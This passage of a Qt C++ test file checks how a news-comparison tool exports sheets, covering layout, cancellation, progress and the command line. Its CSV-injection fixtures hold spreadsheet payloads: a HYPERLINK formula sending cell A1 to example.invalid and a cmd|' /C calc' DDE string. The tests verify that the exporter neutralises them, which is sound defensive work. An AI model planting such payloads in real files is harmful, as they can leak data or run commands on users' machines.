    auto analysis = std::make_shared<Analysis>();
    const QString statement = QStringLiteral("The two nations are widely%1perceived as rivals of the others in the region").arg(space);
    for (int a = 0; a < 6; ++a) {
        Article article;
        article.id = QString::number(a);
        article.outlet = QStringLiteral("Outlet %1").arg(a);
        article.text = QStringLiteral("Opening line. ") + statement + QStringLiteral(".");
        corpus->articles.append(article);
    }
    analysis->corpus = corpus;
    analysis->sentences.resize(corpus->articles.size());
    Claim claim;
    claim.id = QStringLiteral("c1");
    claim.kind = ClaimKind::Shared;
    for (int a = 0; a < corpus->articles.size(); ++a)
        claim.members.append(member(*corpus, a, statement));
    analysis->claims.append(claim);
    const Sheet sheet = buildSheet(*analysis);
    QImage device(10, 10, QImage::Format_RGB32);
    const std::unique_ptr<QTextDocument> doc = sheetToPages(sheet, nullptr, &device, QSizeF(600, 900));
    int cellsChecked = 0;
    for (QTextFrame *frame : doc->rootFrame()->childFrames()) {
        auto *table = qobject_cast<QTextTable *>(frame);
        if (!table || table->columns() != corpus->articles.size() + 1)
            continue;
        for (int c = 1; c < table->columns(); ++c, ++cellsChecked) {
            const QTextBlock block = table->cellAt(1, c).firstCursorPosition().block();
            const QString text = block.text();
            QVERIFY(text.contains(u"perceived as rivals"));
            const QTextLayout *layout = block.layout();
            QVERIFY(layout->lineCount() > 3); // narrow: the statement takes several lines
            for (int l = 1; l < layout->lineCount(); ++l) {
                const int start = layout->lineAt(l).textStart();
                QVERIFY2(
                    !text.at(start - 1).isLetter() || !text.at(start).isLetter(),
                    qPrintable(
                        QStringLiteral("line %1 starts inside a word: \"%2|%3\"").arg(l).arg(text.mid(start - 8, 8), text.mid(start, 8))));
            }
        }
    }
    QCOMPARE(cellsChecked, corpus->articles.size());
}

void TestExport::csvInjection_data()
{
    // Where the text goes in the fixture, the text, and the cell a spreadsheet program gets.
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("expected");
    const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click, here\")");
    QTest::addRow("outlet =HYPERLINK") << QStringLiteral("outlet") << hyperlink << u'\'' + hyperlink;
    QTest::addRow("title +") << QStringLiteral("title") << QStringLiteral("+1+2") << QStringLiteral("'+1+2");
    QTest::addRow("byline @") << QStringLiteral("byline") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
    QTest::addRow("claim -") << QStringLiteral("claim") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
                             << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
    QTest::addRow("claim tab") << QStringLiteral("claim") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
    QTest::addRow("claim CR") << QStringLiteral("claim") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1");
    QTest::addRow("claim = with quotes and line break")
        << QStringLiteral("claim") << QStringLiteral("=\"a\",\n\"b\"") << QStringLiteral("'=\"a\",\n\"b\"");
    // A claim's value column holds words, dates and numbers alike: not a numeric column.
    QTest::addRow("value -3") << QStringLiteral("value") << QStringLiteral("-3") << QStringLiteral("'-3");
    QTest::addRow("attribution =") << QStringLiteral("attribution") << QStringLiteral("=1") << QStringLiteral("'=1");
    QTest::addRow("entity @") << QStringLiteral("entity") << QStringLiteral("@Jon") << QStringLiteral("'@Jon");
    QTest::addRow("spelling -") << QStringLiteral("spelling") << QStringLiteral("-Jon") << QStringLiteral("'-Jon");
    // Left as they are: formula characters inside the text, after a space, or already quoted.
    QTest::addRow("claim a=1") << QStringLiteral("claim") << QStringLiteral("a=1+1, she said") << QStringLiteral("a=1+1, she said");
    QTest::addRow("claim space =") << QStringLiteral("claim") << QStringLiteral(" =1+1") << QStringLiteral(" =1+1");
    QTest::addRow("claim quoted") << QStringLiteral("claim") << QStringLiteral("'=1+1") << QStringLiteral("'=1+1");
    QTest::addRow("claim plain") << QStringLiteral("claim") << QStringLiteral("Schools stay closed.")
                                 << QStringLiteral("Schools stay closed.");
    QTest::addRow("outlet plain") << QStringLiteral("outlet") << QStringLiteral("Daily, \"News\"") << QStringLiteral("Daily, \"News\"");
}

void TestExport::csvInjection()
{
    QFETCH(QString, field);
    QFETCH(QString, text);
    QFETCH(QString, expected);
    // A copy of the fixture to change.
    const auto a = std::make_shared<Analysis>(*fixture());
    const auto corpus = std::make_shared<Corpus>(*a->corpus);
    a->corpus = corpus;
    Article &first = corpus->articles[0];
    auto claim = [&a](const QString &id) -> Claim & {
        return *std::find_if(a->claims.begin(), a->claims.end(), [&id](const Claim &c) { return c.id == id; });
    };
    // The table, row id (first cell) and column of the cell that carries the text.
    CsvTable table = CsvTable::Claims;
    QString rowId;
    int column = 0;
    if (field == u"outlet") {
        first.outlet = text;
        table = CsvTable::Sources;
        rowId = first.id;
        column = 2;
    } else if (field == u"title") {
        first.title = text;
        table = CsvTable::Sources;
        rowId = first.id;
        column = 3;
    } else if (field == u"byline") {
        first.byline = text;
        table = CsvTable::Sources;
        rowId = first.id;
        column = 5;
    } else if (field == u"claim") {
        claim(QStringLiteral("c4")).members[0].text = text; // unique to a0
        rowId = QStringLiteral("c4");
        column = 6;
    } else if (field == u"value") {
        claim(QStringLiteral("c1")).members[0].value = text; // the count conflict, a0's value
        rowId = QStringLiteral("c1");
        column = 7;
    } else if (field == u"attribution") {
        claim(QStringLiteral("c2")).attribution = text;
        rowId = QStringLiteral("c2");
        column = 4;
    } else if (field == u"entity") {
        a->entities[0].name = text;
        table = CsvTable::Entities;
        rowId = a->entities[0].id;
        column = 2;
    } else if (field == u"spelling") {
        a->entities[0].mentions[1].text = text; // Jon Smith in a2: a2's spellings column
        table = CsvTable::Entities;
        rowId = a->entities[0].id;
        column = 5 + 2 * 2 + 1;
    }

    const Sheet sheet = buildSheet(*a);
    for (bool bom : {false, true}) {
        const QByteArray bytes = sheetToCsv(sheet, table, bom);
        QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), bom);
        bool ok = false;
        const QList<QStringList> rows = parseCsv(QString::fromUtf8(bom ? bytes.mid(3) : bytes), &ok);
        QVERIFY(ok);
        QCOMPARE(rows, sheetCsvTable(sheet, table));
        const auto row = std::find_if(rows.begin() + 1, rows.end(), [&rowId](const QStringList &r) { return r.first() == rowId; });
        QVERIFY2(row != rows.end(), qPrintable(rowId));
        QCOMPARE(row->size(), rows.first().size());
        QCOMPARE(row->at(column), expected);
        // No cell anywhere starts a formula.
        for (const QStringList &r : rows) {
            for (const QString &cell : r) {
                static const QRegularExpression formula(QStringLiteral("\\A[=+\\-@\\t\\r]"));
                static const QRegularExpression count(QStringLiteral("\\A-?[0-9]+\\z"));
                QVERIFY2(!formula.match(cell).hasMatch() || count.match(cell).hasMatch(), qPrintable(cell));
            }
        }
    }
    if (field == u"outlet") {
        // The outlet also labels the source's columns in the claims and entities tables.
        QCOMPARE(sheetCsvTable(sheet, CsvTable::Claims).first().at(6), expected);
        QCOMPARE(sheetCsvTable(sheet, CsvTable::Entities).first().at(5).startsWith(u'\''), expected.startsWith(u'\''));
    }
}

void TestExport::csvNumericColumns_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<bool>("numeric");
    QTest::addColumn<QString>("expected");
    QTest::addRow("-3 in a count column") << QStringLiteral("-3") << true << QStringLiteral("-3");
    QTest::addRow("-3.5 in a count column") << QStringLiteral("-3.5") << true << QStringLiteral("-3.5");
    QTest::addRow("+7 in a count column") << QStringLiteral("+7") << true << QStringLiteral("+7");
    QTest::addRow("12 in a count column") << QStringLiteral("12") << true << QStringLiteral("12");
    QTest::addRow("-3 in a text column") << QStringLiteral("-3") << false << QStringLiteral("'-3");
    QTest::addRow("formula in a count column") << QStringLiteral("-3+A1") << true << QStringLiteral("'-3+A1");
    QTest::addRow("=3 in a count column") << QStringLiteral("=3") << true << QStringLiteral("'=3");
    QTest::addRow("-3 then a line break") << QStringLiteral("-3\n") << true << QStringLiteral("'-3\n");
    QTest::addRow("empty") << QString() << false << QString();
    QTest::addRow("lone -") << QStringLiteral("-") << false << QStringLiteral("'-");
}

void TestExport::csvNumericColumns()
{
    QFETCH(QString, cell);
    QFETCH(bool, numeric);
    QFETCH(QString, expected);
    QCOMPARE(csvNeutralised(cell, numeric), expected);
    // Neutralising twice changes nothing.
    QCOMPARE(csvNeutralised(csvNeutralised(cell, numeric), numeric), expected);
    // The encoder keeps RFC 4180 quoting around what it is given.
    bool ok = false;
    const QList<QStringList> rows{{expected, QStringLiteral("x")}};
    QCOMPARE(parseCsv(QString::fromUtf8(csvEncode(rows, false)), &ok), rows);
    QVERIFY(ok);
}

void TestExport::failedExportKeepsOldFile_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QString>("failure");
    for (const QString &format :
         {QStringLiteral("html"), QStringLiteral("pdf"), QStringLiteral("odt"), QStringLiteral("csv"), QStringLiteral("json")}) {
        QTest::addRow("%s canceled", qPrintable(format)) << format << QStringLiteral("cancel");
        QTest::addRow("%s missing folder", qPrintable(format)) << format << QStringLiteral("missing");
    }
    QTest::addRow("csv folder canceled") << QStringLiteral("csv-folder") << QStringLiteral("cancel");
}

void TestExport::failedExportKeepsOldFile()
{
    QFETCH(QString, format);
    QFETCH(QString, failure);
    QTemporaryDir dir;
    ExportSettings settings;
    settings.format = *sheetFormatFromKey(format.section(u'-', 0, 0));
    settings.csvFolder = format.endsWith(u"folder");
    const QByteArray old("the previous export\n");
    QString target = dir.filePath(QStringLiteral("sheet"));
    QString existing = target;
    if (settings.csvFolder) {
        QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("sheet")));
        existing = dir.filePath(QStringLiteral("sheet/claims.csv"));
    }
    if (failure == u"missing")
        target = dir.filePath(QStringLiteral("no/such/folder/sheet"));
    QFile f(existing);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(old);
    f.close();

    int polls = 0;
    const ExportResult result = exportSheet(*fixture(), settings, target, *m_repository, [&polls, &failure] {
        ++polls;
        return failure == u"cancel";
    });
    QVERIFY(!result.ok);
    QVERIFY(!result.error.isEmpty());
    QCOMPARE(result.canceled, failure == u"cancel");
    QVERIFY(result.files.isEmpty());
    QVERIFY(f.open(QIODevice::ReadOnly));
    QCOMPARE(f.readAll(), old);
    // Nothing else was left behind (no temporary files, no new files).
    const QStringList left = QDir(QFileInfo(existing).path()).entryList(QDir::Files);
    QCOMPARE(left, QStringList{QFileInfo(existing).fileName()});
    QVERIFY(!QFileInfo::exists(dir.filePath(QStringLiteral("no"))));
}

void TestExport::cancelStopsTheWriter_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QString>("corpus");
    for (const QString &format : {QStringLiteral("html"), QStringLiteral("pdf"), QStringLiteral("odt"), QStringLiteral("md"),
                                  QStringLiteral("csv"), QStringLiteral("csv-folder"), QStringLiteral("json")})
        QTest::newRow(qPrintable(format)) << format << QStringLiteral("seed");
    // Past kPrintedSourceColumns sources, the printed sheets list sources in rows, in tables
    // laid out one after another with polls between them (one claims table was one call).
    for (const QString &format : {QStringLiteral("pdf"), QStringLiteral("odt")})
        QTest::addRow("%s, 15 sources", qPrintable(format)) << format << QStringLiteral("wide");
}

// The sheet and every writer poll the cancel predicate at least once per row, and stop
// at the first poll that says so, wherever that falls: a predicate that turns true after
// N polls (N from the first to the last poll of a whole export) gets a canceled export,
// no file, and at most the few polls of the callers on the way out after it.
void TestExport::cancelStopsTheWriter()
{
    QFETCH(QString, format);
    QFETCH(QString, corpus);
    const AnalysisPtr story = analysis(corpus);
    ExportSettings settings;
    settings.format = *sheetFormatFromKey(format.section(u'-', 0, 0));
    settings.csvFolder = format.endsWith(u"folder");
    const Sheet sheet = buildSheet(*story);
    const int rows = int(sheet.compared.size() + sheet.entities.size());
    QVERIFY(rows > 20);

    QTemporaryDir dir;
    const QString target = dir.filePath(QStringLiteral("sheet"));
    int total = 0;
    const ExportResult whole = exportSheet(*story, settings, target, *m_repository, [&total] {
        ++total;
        return false;
    });
    QVERIFY2(whole.ok, qPrintable(whole.error));
    QVERIFY2(total > rows, qPrintable(QStringLiteral("%1 polls for %2 rows").arg(total).arg(rows)));
    QVERIFY(settings.csvFolder ? QDir(target).removeRecursively() : QFile::remove(target));

    for (const int flipAt : {1, 2, total / 4, total / 2, 3 * total / 4, total - 1, total}) {
        int polls = 0;
        const ExportResult result = exportSheet(*story, settings, target, *m_repository, [&polls, flipAt] {
            ++polls;
            return polls >= flipAt;
        });
        QVERIFY2(result.canceled, qPrintable(QStringLiteral("flipped at poll %1 of %2").arg(flipAt).arg(total)));
        QVERIFY(!result.ok);
        QVERIFY(result.files.isEmpty());
        QVERIFY(!QFileInfo::exists(target));
        QVERIFY(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot).isEmpty());
        QVERIFY2(polls - flipAt <= 8, qPrintable(QStringLiteral("%1 polls after the cancel at poll %2").arg(polls - flipAt).arg(flipAt)));
    }
}

// The ODT writer tells how far it is as it writes the document out, ending at 100 %.
void TestExport::odtReportsProgress()
{
    ExportSettings settings;
    settings.format = SheetFormat::Odt;
    QTemporaryDir dir;
    QList<int> reported;
    const ExportResult result = exportSheet(*m_wide, settings, dir.filePath(QStringLiteral("sheet.odt")), *m_repository, {},
                                            [&reported](int percent) { reported.append(percent); });
    QVERIFY2(result.ok, qPrintable(result.error));
    QVERIFY2(reported.size() >= 20, qPrintable(QString::number(reported.size())));
    QVERIFY(std::is_sorted(reported.cbegin(), reported.cend()));
    QVERIFY(reported.first() < 10);
    QCOMPARE(reported.last(), 100);
}

void TestExport::wideSheetListsSourcesInRows_data()
{
    QTest::addColumn<QString>("corpus");
    QTest::addColumn<bool>("inRows");
    QTest::addRow("5 sources: a column each") << QStringLiteral("seed") << false;
    QTest::addRow("15 sources: in rows") << QStringLiteral("wide") << true;
}

// A printed sheet of many sources has no table (but the list of sources) wider than two columns
// nor longer than kRowsPerPrintedTable rows, and still names every source that states each
// claim (here fewer than kRowsPerPrintedTable: one table each).
void TestExport::wideSheetListsSourcesInRows()
{
    QFETCH(QString, corpus);
    QFETCH(bool, inRows);
    const Sheet sheet = buildSheet(*analysis(corpus));
    QVERIFY(!sheet.compared.isEmpty());
    const std::unique_ptr<QTextDocument> doc = sheetToDocument(sheet, nullptr);
    int widest = 0, longest = 0, tables = 0;
    const QList<QTextFrame *> frames = doc->rootFrame()->childFrames();
    QVERIFY(!frames.isEmpty());
    for (QTextFrame *frame : frames.mid(1)) { // after the sources table, which has a row per source
        if (auto *table = qobject_cast<QTextTable *>(frame)) {
            ++tables;
            widest = std::max(widest, table->columns());
            longest = std::max(longest, table->rows() - 1);
        }
    }
    QCOMPARE(widest > 2, !inRows && sheet.sources.size() + 1 > 2);
    if (!inRows)
        return;
    QVERIFY2(longest <= kRowsPerPrintedTable, qPrintable(QString::number(longest)));
    QVERIFY(tables > sheet.compared.size()); // a table per claim, then the others
    // Each claim's table lists exactly the sources that state it, by their labels.
    for (int r = 0; r < sheet.compared.size(); ++r) {
        auto *table = qobject_cast<QTextTable *>(frames[1 + r]); // after the sources table
        QVERIFY(table);
        const SheetClaimRow &row = sheet.compared[r];
        QCOMPARE(table->rows(), row.sourceCount() + 1);
        QVERIFY(QTextCursor(table->cellAt(0, 0).firstCursorPosition()).block().text().startsWith(sheetKindLabel(row.kind)));
        for (int i = 0; i < row.stated.size(); ++i)
            QCOMPARE(table->cellAt(i + 1, 0).firstCursorPosition().block().text(), sheet.sources[row.stated[i].source].label);
    }
}

// Past kRowsPerPrintedTable sources, the list of sources is printed in tables of at most that
// many rows each (Qt lays a table out in one call that a cancel cannot interrupt), in order.
void TestExport::manySourcesListedInBoundedTables()
{
    const Corpus &seed = *m_seed->corpus;
    auto corpus = std::make_shared<Corpus>(seed);
    corpus->articles.clear();
    for (int copy = 1; corpus->articles.size() <= kRowsPerPrintedTable; ++copy) {
        for (Article a : seed.articles) {
            a.id += QStringLiteral("-%1").arg(copy);
            a.outlet += QStringLiteral(" %1").arg(copy);
            a.name.clear();
            corpus->articles.append(a);
        }
    }
    const Sheet sheet = buildSheet(*analyzeCorpus(corpus));
    const std::unique_ptr<QTextDocument> doc = sheetToDocument(sheet, nullptr);
    QStringList listed;
    for (QTextFrame *frame : doc->rootFrame()->childFrames()) {
        auto *table = qobject_cast<QTextTable *>(frame);
        if (!table || table->columns() != 5)
            continue; // the sources' tables are the ones of five columns
        QVERIFY2(table->rows() - 1 <= kRowsPerPrintedTable, qPrintable(QString::number(table->rows())));
        QCOMPARE(table->cellAt(0, 0).firstCursorPosition().block().text(), QStringLiteral("Source"));
        for (int r = 1; r < table->rows(); ++r)
            listed.append(table->cellAt(r, 0).firstCursorPosition().block().text());
    }
    QStringList labels;
    for (const SheetSource &s : sheet.sources)
        labels.append(s.label);
    QCOMPARE(listed, labels);
    entitiesListedInBoundedTables(sheet, *doc);
}

// The sources named in a cell "Label 3 (spelling) · Label 1": its bold words.
static QStringList boldLabels(const QTextTableCell &cell)
{
    QStringList labels;
    for (auto block = cell.begin(); !block.atEnd(); ++block) {
        for (auto it = block.currentBlock().begin(); !it.atEnd(); ++it) {
            if (it.fragment().charFormat().fontWeight() == QFont::Bold)
                labels.append(it.fragment().text().trimmed());
        }
    }
    return labels;
}

// Each entity's sources, in tables of at most kSourcesPerPrintedTable sources: one named by more
// than kSourcesPerPrintedRow goes on in rows marked "(continued)", and no source is left out.
void TestExport::entitiesListedInBoundedTables(const Sheet &sheet, const QTextDocument &doc)
{
    QList<QStringList> expected;
    for (const SheetEntityGroup &group : sheet.entityGroups()) {
        for (const SheetEntityRow *row : group.rows) {
            QStringList labels;
            for (int s = 0; s < row->counts.size(); ++s) {
                if (row->counts[s] > 0)
                    labels.append(sheet.sources[s].label);
            }
            expected.append(labels);
        }
    }
    QList<QStringList> actual;
    int continued = 0;
    for (QTextFrame *frame : doc.rootFrame()->childFrames()) {
        auto *table = qobject_cast<QTextTable *>(frame);
        if (!table || table->columns() != 2
            || table->cellAt(0, 1).firstCursorPosition().block().text() != QStringLiteral("Mentions by source"))
            continue;
        QVERIFY2(table->rows() - 1 <= kRowsPerPrintedTable, qPrintable(QString::number(table->rows())));
        qsizetype inTable = 0;
        for (int r = 1; r < table->rows(); ++r) {
            const QStringList labels = boldLabels(table->cellAt(r, 1));
            QVERIFY2(labels.size() <= kSourcesPerPrintedRow, qPrintable(QString::number(labels.size())));
            inTable += labels.size();
            if (table->cellAt(r, 0).lastCursorPosition().block().text().endsWith(QStringLiteral("(continued)"))) {
                QVERIFY(!actual.isEmpty());
                actual.last() += labels;
                ++continued;
            } else {
                actual.append(labels);
            }
        }
        QVERIFY2(inTable <= kSourcesPerPrintedTable, qPrintable(QString::number(inTable)));
    }
    QVERIFY2(continued > 0, "some entity is named by more sources than a row lists");
    QCOMPARE(actual, expected);
}

void TestExport::commandLine_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QStringList>("files");
    QTest::addRow("html") << QStringList{QStringLiteral("--format"), QStringLiteral("html")} << 0 << QStringList{QStringLiteral("out")};
    QTest::addRow("csv folder") << QStringList{QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--bom"),
                                               QStringLiteral("--kinds"), QStringLiteral("shared,conflict")}
                                << 0
                                << QStringList{QStringLiteral("out/claims.csv"), QStringLiteral("out/entities.csv"),
                                               QStringLiteral("out/sources.csv")};
    QTest::addRow("bad kind") << QStringList{QStringLiteral("--format"), QStringLiteral("md"), QStringLiteral("--kinds"),
                                             QStringLiteral("rumour")}
                              << 2 << QStringList{};
    QTest::addRow("bad format") << QStringList{QStringLiteral("--format"), QStringLiteral("docx")} << 2 << QStringList{};
}

void TestExport::commandLine()
{
    QFETCH(QStringList, arguments);
    QFETCH(int, exitCode);
    QFETCH(QStringList, files);
    QTemporaryDir dir;
    // Three articles keep the analysis quick; the corpus is still a real one.
    const QString corpus = QStringLiteral(PARALLAX_SOURCE_DIR "/corpus/putin-xi-2024/");
    QString out = dir.filePath(QStringLiteral("out"));
    if (arguments.contains(QStringLiteral("csv")))
        out += u'/';
    QProcess p;
    p.start(QStringLiteral(PARALLAX_BINARY), QStringList{QStringLiteral("export"), corpus + QStringLiteral("000_cf5a05ee9db54925.txt"),
                                                         corpus + QStringLiteral("002_41a3ba1b02c85ae1.txt"), QStringLiteral("-o"), out}
                                                 + arguments);
    QVERIFY(p.waitForFinished(240000));
    QVERIFY2(p.exitCode() == exitCode, p.readAllStandardError().constData());
    for (const QString &name : files) {
        QFile f(dir.filePath(name));
        QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(name));
        const QByteArray bytes = f.readAll();
        if (name == u"out")
            QVERIFY(parseHtml(bytes).error.isEmpty());
        else
            QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    }
    if (files.isEmpty())
        QVERIFY(!QFileInfo::exists(out));
}

// Two exports of one comparison are the same file byte for byte, whatever order a process's
// hash seed gives its hash tables (QT_HASH_SEED=0 fixes it; unset, each run draws its own).
void TestExport::odtIsReproducible()
{
    QTemporaryDir dir;
    const QString corpus = QStringLiteral(PARALLAX_SOURCE_DIR "/corpus/putin-xi-2024");
    QList<QByteArray> files;
    for (const QByteArray &seed : {QByteArray("0"), QByteArray(), QByteArray()}) {
        const QString out = dir.filePath(QStringLiteral("sheet%1.odt").arg(files.size()));
        QProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        if (seed.isEmpty())
            env.remove(QStringLiteral("QT_HASH_SEED"));
        else
            env.insert(QStringLiteral("QT_HASH_SEED"), QString::fromLatin1(seed));
        p.setProcessEnvironment(env);
        p.start(QStringLiteral(PARALLAX_BINARY),
                {QStringLiteral("export"), corpus, QStringLiteral("--format"), QStringLiteral("odt"), QStringLiteral("-o"), out});
        QVERIFY(p.waitForFinished(240000));
        QVERIFY2(p.exitCode() == 0, p.readAllStandardError().constData());
        QFile f(out);
        QVERIFY(f.open(QIODevice::ReadOnly));
        files.append(f.readAll());
        QVERIFY(files.last().size() > 1000);
    }
    QCOMPARE(files[1], files[0]);
    QCOMPARE(files[2], files[0]);
}

QTEST_MAIN(TestExport)
#include "tst_export.moc"
